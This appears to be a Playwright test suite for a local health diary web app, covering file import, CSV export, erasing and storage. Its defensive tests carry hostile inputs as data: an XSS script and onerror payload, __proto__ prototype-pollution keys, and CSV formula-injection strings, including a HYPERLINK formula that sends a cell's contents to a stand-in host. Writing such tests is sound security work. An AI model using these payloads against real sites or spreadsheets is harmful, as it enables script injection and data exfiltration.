    "no id": (file_of({"type": "goal", "at": PAIN["at"], "data": {}}), UNREADABLE),
    "a prototype in place of an entry": (
        file_with(entries=[{"__proto__": PAIN}, None, 1, "x", []]),
        UNREADABLE,
    ),
}


@pytest.mark.parametrize("what", BAD_FILES)
def test_a_bad_file_gets_a_clear_sentence_and_changes_nothing(page: Page, what: str) -> None:
    content, sentence = BAD_FILES[what]
    open_diary(page, PAIN, CHECK_IN)
    before = raw(page)
    choose(page, content)
    status = page.locator("cb-restore").get_by_role("status")
    expect(status).to_contain_text(sentence)
    expect(status).to_contain_text(AS_IT_WAS)
    expect(page.get_by_role("button", name="Add to my diary")).to_be_hidden()
    expect(page.get_by_label("Choose a diary file")).to_be_focused()
    assert raw(page) == before
    # A good one can be chosen at once.
    choose(page, file_of(SESSION))
    expect(page.get_by_text("1 entry new.")).to_be_visible()
    expect(status).to_be_empty()


def test_a_huge_file_is_refused_without_reading_it(page: Page, tmp_path: Path) -> None:
    huge = tmp_path / "film.json"
    with huge.open("wb") as file:
        file.truncate(200 * 1024 * 1024)
    open_diary(page, PAIN)
    before = raw(page)
    page.evaluate("""() => {
        for (const how of ["text", "arrayBuffer", "stream", "slice"]) {
            Blob.prototype[how] = () => { throw new Error("It was read.") };
        }
    }""")
    page.get_by_label("Choose a diary file").set_input_files(huge)
    status = page.locator("cb-restore").get_by_role("status")
    expect(status).to_contain_text("This file is too large for a diary (200 MB).")
    expect(status).to_contain_text(AS_IT_WAS)
    assert raw(page) == before


def test_of_a_file_that_is_cut_off_the_whole_entries_are_offered(page: Page) -> None:
    open_diary(page, PAIN, CHECK_IN, SESSION)
    _, content = download(page, "Save my diary to a file")
    other = page.context.browser.new_context(base_url=page.url.removesuffix(MY_DIARY)).new_page()
    open_diary(other)
    choose(other, content[: content.index(b"calf-stretch")])
    expect(other.locator("cb-restore")).to_contain_text("2 entries new.")
    expect(other.locator("cb-restore")).to_contain_text("The end of this file is not there")
    assert written(other) == []
    press(other, "Add to my diary")
    expect(other.get_by_text("✓ Added 2 entries.")).to_be_visible()
    assert written(other) == [PAIN, CHECK_IN]
    other.context.close()


def test_one_bad_entry_does_not_keep_the_good_ones_out(page: Page) -> None:
    open_diary(page)
    bad = {**CHECK_IN, "data": {"day": "2026-02-30", "pain": 1}}
    twice = {**PAIN, "data": {**PAIN["data"], "rating": 1}}
    choose(page, file_of(PAIN, bad, twice, PAIN, SESSION))
    expect(page.locator("cb-restore")).to_contain_text("2 entries new.")
    expect(page.locator("cb-restore")).to_contain_text(
        "Left out, because it cannot be read: 2 entries."
    )
    assert written(page) == []
    press(page, "Add to my diary")
    expect(page.get_by_text("✓ Added 2 entries.")).to_be_visible()
    # Of two with one id, the first.
    assert written(page) == [PAIN, SESSION]


def test_scripts_in_every_text_of_a_file_are_text(page: Page) -> None:
    script = "<script>document.title = 1</script><img src=x onerror='document.title = 2'>"
    entries = [
        {**example(kind), "data": with_words(example(kind)["data"], script)} for kind in KINDS
    ]
    open_diary(page)
    title = page.title()
    choose(page, file_of(*entries), f"{script[:20]}.json")
    expect(page.locator("cb-restore")).to_contain_text(f"{len(KINDS)} entries new.")
    assert written(page) == []
    press(page, "Add to my diary")
    press(page, "Show older")
    expect(rows(page)).to_have_count(len(KINDS))
    assert page.locator(".cb-days").inner_text().count(script) > len(KINDS)
    expect(page.locator(".cb-component").locator("script, img")).to_have_count(0)
    assert page.title() == title


def with_words(value: Any, words: str) -> Any:
    """Put the words wherever a learner wrote: in the examples, only that has a space or a stop."""
    if isinstance(value, dict):
        return {name: with_words(each, words) for name, each in value.items()}
    if isinstance(value, list):
        return [with_words(each, words) for each in value]
    return words if isinstance(value, str) and (" " in value or value.endswith(".")) else value


def test_a_key_named_proto_stays_a_key(page: Page) -> None:
    hostile = json.loads(
        '{"__proto__": {"ticked": true, "hidden": true}, "constructor": {"prototype": 1}}'
    )
    reflection = entry("reflection", prompt="week", words="Odd.", **hostile)
    reflection["__proto__"] = {"type": "goal"}
    open_diary(page)
    choose(page, file_of(reflection))
    expect(page.get_by_text("1 entry new.")).to_be_visible()
    assert written(page) == []
    press(page, "Add to my diary")
    expect(rows(page)).to_contain_text("Odd.")
    assert written(page) == [reflection]
    assert page.evaluate(
        "[({}).ticked, ({}).hidden, ({}).type].every((each) => each === undefined)"
    )
    _, content = download(page, "Save my diary to a file")
    assert reflection in json.loads(content)["entries"]


# Tables


def table(page: Page, name: str) -> list[list[str]]:
    saved_as, content = download(page, name)
    assert re.fullmatch(r"climbing-back-(sessions|check-ins)-20\d\d-\d\d-\d\d\.csv", saved_as)
    # The mark by which a spreadsheet knows UTF-8.
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_sessions_and_check_ins_as_tables(page: Page) -> None:
    withdrawn = entry("check-in", "2026-11-23T20:15:00+01:00", day="2026-11-23", pain=3)
    removal = entry("withdrawal", "2026-11-23T20:16:00+01:00", entry=withdrawn["id"])
    empty = entry("session", "2026-11-24T18:40:00+01:00", day="2026-11-24", size="off", items=[])
    open_diary(page, PAIN, CHECK_IN, SESSION, withdrawn, removal, empty)
    assert table(page, "Save my sessions as a table") == [
        ["day", "size", "exercise", "done", "note", "minutes in all", "note on the session"],
        ["2026-11-21", "good", "calf-stretch", "all", "Tight.", "25", ""],
        ["2026-11-21", "good", "bike", "none", "", "25", ""],
        ["2026-11-24", "off", "", "", "", "", ""],
    ]
    assert table(page, "Save my check-ins as a table") == [
        ["day", "kind of day", "stiffness 0-10", "fatigue 0-10", "pain 0-10", "falls", "note"],
        ["2026-11-21", "so-so", "", "", "", "0", "Stairs."],
    ]


WORDS = ['Half, or "more".', "Two\nlines,\r\nand a third.", "Größe ☐ 🧗", " spaces ", "5 - 3 = 2"]
FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "|calc",
    "%0A=1",
    '=HYPERLINK("http://x.invalid?"&A1)',
]


def test_words_survive_in_a_table_and_formulas_are_disarmed(page: Page) -> None:
    notes = WORDS + FORMULAS
    open_diary(
        page,
        *[entry("check-in", day="2026-11-21", note=note) for note in notes],
        *[entry("session", day="2026-11-21", size="good", items=[], note=note) for note in notes],
        entry(
            "session",
            day="2026-11-21",
            size="off",
            items=[{"item": "a", "done": "all", "note": "=1"}],
        ),
    )
    disarmed = ["'" + formula for formula in FORMULAS]
    _, *check_ins = table(page, "Save my check-ins as a table")
    assert [row[6] for row in check_ins] == WORDS + disarmed
    _, *sessions = table(page, "Save my sessions as a table")
    assert [row[6] for row in sessions] == [*WORDS, *disarmed, ""]
    assert sessions[-1][4] == "'=1"


# Erasing


def test_erasing_offers_a_file_first_and_leaves_nothing(new_context: NewContext) -> None:
    context = new_context()
    here, there = context.new_page(), context.new_page()
    open_diary(here, PAIN, CHECK_IN, SESSION)
    open_diary(there)
    expect(rows(there)).to_have_count(3)
    press(here, "Erase everything")
    expect(here.get_by_text("This erases 3 entries for good. Save a file first?")).to_be_visible()
    expect(here.get_by_role("button", name="Save my diary to a file first")).to_be_focused()
    _, content = download(here, "Save my diary to a file first")
    assert [*json.loads(content)["entries"]][:3] == [PAIN, CHECK_IN, SESSION]
    press(here, "Erase it all now")
    expect(here.get_by_text("✓ Erased. Your diary here is empty.")).to_be_visible()
    assert raw(here) == "[]"
    for tab in (here, there):
        expect(rows(tab)).to_have_count(0)
        expect(tab.get_by_text("Nothing is written here yet.")).to_be_visible()
    expect(here.get_by_role("button", name="Erase everything")).to_be_focused()
    # What was erased can be brought back from the file.
    choose(there, content)
    press(there, "Add to my diary")
    expect(rows(there)).to_have_count(4)


def test_one_can_think_again_before_erasing(page: Page) -> None:
    open_diary(page, PAIN, CHECK_IN)
    before = raw(page)
    press(page, "Erase everything")
    press(page, "Keep my diary")
    expect(page.get_by_role("button", name="Erase it all now")).to_be_hidden()
    expect(page.get_by_role("button", name="Erase everything")).to_be_focused()
    expect(rows(page)).to_have_count(2)
    assert raw(page) == before


def test_a_second_tap_erases_nothing(page: Page) -> None:
    open_diary(page, PAIN)
    before = raw(page)
    page.get_by_role("button", name="Erase everything").dblclick()
    expect(page.get_by_role("button", name="Keep my diary", exact=True)).to_be_visible()
    assert raw(page) == before


def test_nothing_of_what_was_removed_is_left_on_the_page_after_erasing(page: Page) -> None:
    open_diary(page, PAIN, CHECK_IN)
    press(page, "Remove Check-in, 20:15")
    expect(page.get_by_text(SAVED)).to_be_visible()
    press(page, "Erase everything")
    press(page, "Erase it all now")
    expect(page.get_by_text("✓ Erased.")).to_be_visible()
    expect(page.get_by_text("Nothing is written here yet.")).to_be_visible()
    expect(rows(page)).to_have_count(0)
    assert raw(page) == "[]"


# Without scripts, and on paper


def test_without_scripts_each_part_has_its_words_and_nothing_is_dead(
    new_context: NewContext,
) -> None:
    page = new_context(java_script_enabled=False).new_page()
    page.goto(MY_DIARY)
    for words in (
        "What you write in this course stays on your own device.",
        "To save a file, this page needs scripts.",
        "To read a file, this page needs scripts.",
        "What you wrote shows here, newest first, when scripts are on.",
        "To make a table, this page needs scripts.",
        "Scripts are off, so nothing is kept here anyway.",
        "To erase a diary, this page needs scripts.",
    ):
        expect(page.get_by_text(words)).to_be_visible()
    controls = page.locator("main").locator("button, input, select, textarea")
    assert [each for each in controls.all() if each.is_visible()] == []


def test_the_entries_are_on_paper_and_the_buttons_are_not(page: Page) -> None:
    open_diary(page, *many(12), PAIN, CHECK_IN)
    press(page, "Erase everything")
    choose(page, file_of(SESSION))
    expect(page.get_by_role("button", name="Add to my diary")).to_be_visible()
    text = printed(page)
    for words in (
        "Saturday 21 November 2026",
        "Stairs.",
        "In the calf.",
        "6 of 10",
        "Thought 11.",
        "Thought 0.",
    ):
        assert words in text
    screen = (
        "Change",
        "Remove",
        "Show older",
        "Save my",
        "Choose a",
        "Erase it",
        "Add to",
        "any month",
    )
    assert [words for words in screen if words in text] == []


# The store beneath it, in a real browser


def test_two_tabs_that_write_at_once_lose_nothing(new_context: NewContext) -> None:
    context = new_context()
    tabs = [context.new_page(), context.new_page()]
    for tab in tabs:
        open_diary(tab)
        tab.evaluate(store_script() + "; window.own = own")
    for tab in tabs:
        tab.evaluate("""() => {
            window.done = (async () => {
                const store = new own.IndexedDBStore();
                for (let n = 0; n < 1000; n++) {
                    await store.add([own.newEntry("chapter-read", { chapter: "welcome" })]);
                }
            })();
        }""")
    for tab in tabs:
        tab.evaluate("done")
    assert len(written(tabs[0])) == 2000
    for tab in tabs:
        expect(tab.get_by_text("2,000 entries. Here are the newest 10.")).to_be_visible()


TABLE = json.loads((ROOT / "tests/record/store_behaviour.json").read_text("utf-8"))


@pytest.mark.parametrize("scenario", TABLE["scenarios"], ids=lambda each: each["name"])
def test_the_store_does_what_every_store_does(page: Page, scenario: dict[str, Any]) -> None:
    page.goto("book/reference/sources.html")
    page.evaluate(store_script() + "; window.own = own")
    differs = page.evaluate(
        "([table, scenario]) => own.run(table, scenario, () => new own.IndexedDBStore())",
        [TABLE, scenario],
    )
    assert differs == []


# What could not be kept as it was


def test_what_was_left_empty_stays_empty_through_a_change(page: Page) -> None:
    taken_back = {"checklist": "symptoms", "item": "pain", "rating": None, "note": ""}
    open_diary(page, entry("checklist-answer", **taken_back))
    press(page, re.compile("^Change Checklist"))
    press(page, "Save the change")
    expect(page.get_by_text(SAVED)).to_be_visible()
    assert written(page)[-1]["data"] == taken_back


def test_removing_a_changed_entry_does_not_bring_back_what_it_said_before(page: Page) -> None:
    open_diary(page, CHECK_IN)
    for words in ("One.", "Two."):
        press(page, re.compile("^Change Check-in"))
        page.get_by_label("Note").fill(words)
        press(page, "Save the change")
        expect(rows(page)).to_contain_text(words)
    press(page, re.compile("^Remove Check-in"))
    expect(page.get_by_text("Removed.")).to_be_visible()
    expect(page.get_by_text(SAVED)).to_be_visible()
    press(page, re.compile("^Undo"))
    expect(rows(page)).to_contain_text("Two.")
    press(page, re.compile("^Remove Check-in"))
    expect(page.get_by_text("Removed.")).to_be_visible()
    expect(page.get_by_text(SAVED)).to_be_visible()
    page.reload()
    expect(page.get_by_text("Nothing is written here yet.")).to_be_visible()


def test_a_month_without_such_entries_is_not_an_empty_diary(page: Page) -> None:
    open_diary(page, PAIN, entry("reflection", "2026-03-01T08:00:00+00:00", prompt="a", words="b"))
    page.get_by_role("combobox", name="Kind").select_option("Reflection")
    page.get_by_role("combobox", name="Month").select_option("November 2026")
    expect(page.get_by_text("Nothing of this kind in this month.")).to_be_visible()
